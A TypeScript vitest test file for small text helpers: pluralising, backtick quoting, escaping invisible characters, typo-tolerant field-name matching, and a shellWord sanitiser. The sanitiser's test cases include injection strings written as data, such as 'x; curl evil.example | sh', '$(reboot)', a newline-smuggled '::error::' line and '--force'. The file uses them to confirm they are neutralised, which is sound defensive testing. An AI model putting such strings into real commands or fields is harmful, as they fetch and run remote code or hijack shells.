import { describe, expect, it } from "vitest";
import type { Json } from "./types.ts";
import { code, codeValue, count, inWords, nearest, plural, shellWord, visible } from "./words.ts";

it("a word goes with its number", () => {
  expect([1, 2].map((number) => count(number, "property", "properties"))).toEqual(["1 property", "2 properties"]);
  expect([1, 2].map((number) => plural(number, "is", "are"))).toEqual(["is", "are"]);
});

describe("code", () => {
  it.each([
    ["name", "`name`"],
    ["", '`""`'],
    ["a`b", "`a'b`"],
    ["a\nb", "`a\\u000ab`"],
    ["\u202Eabc", "`\\u202eabc`"],
    ["x".repeat(100), `\`${"x".repeat(59)}…\``],
  ])("quotes %j as %j", (text, expected) => {
    expect(code(text)).toBe(expected);
  });

  it("never cuts a character in two", () => {
    expect(code(`${"x".repeat(58)}😀😀`)).not.toMatch(/\p{Cs}/u);
  });

  it("quotes values as JSON", () => {
    expect(codeValue({ a: ["`"] })).toBe(`\`{"a":["'"]}\``);
  });
});

describe("visible", () => {
  it("escapes what cannot be seen and leaves all else", () => {
    expect(visible("é漢😀\u200bZ\u0007")).toBe("é漢😀\\u200bZ\\u0007");
  });
});

describe("inWords", () => {
  it.each<[Json, string]>([
    [null, "null"],
    [true, "`true`"],
    [1, "a whole number"],
    [1.5, "a number"],
    ["", "text"],
    [[], "a list"],
    [{}, "an object"],
  ])("calls %j %s", (value, expected) => {
    expect(inWords(value)).toBe(expected);
  });
});

describe("count", () => {
  it.each([
    [0, "0 tools"],
    [1, "1 tool"],
    [2, "2 tools"],
  ])("says %i as %s", (number, expected) => {
    expect(count(number, "tool")).toBe(expected);
  });
});

describe("nearest", () => {
  const names = ["command", "cwd", "timeout", "readOnlyHint"];
  it.each([
    ["comand", "command"],
    ["commnad", "command"],
    ["Command", "command"],
    ["timeOut", "timeout"],
    ["readonlyhint", "readOnlyHint"],
    ["cdw", "cwd"],
    ["path", undefined],
    ["", undefined],
    ["x", undefined],
  ])("takes %j for %j", (word, expected) => {
    expect(nearest(word, names)).toBe(expected);
  });
});

it.each([
  ["github", "github"],
  ["my server", "my-server"],
  ["x; curl evil.example | sh", "x-curl-evil-example-sh"],
  ["a\n::error::b", "a-error-b"],
  ["$(reboot)", "reboot"],
  ["--force", "force"],
  ["…", "tools"],
])("%j is %s in a command to paste", (name, word) => expect(shellWord(name)).toBe(word));
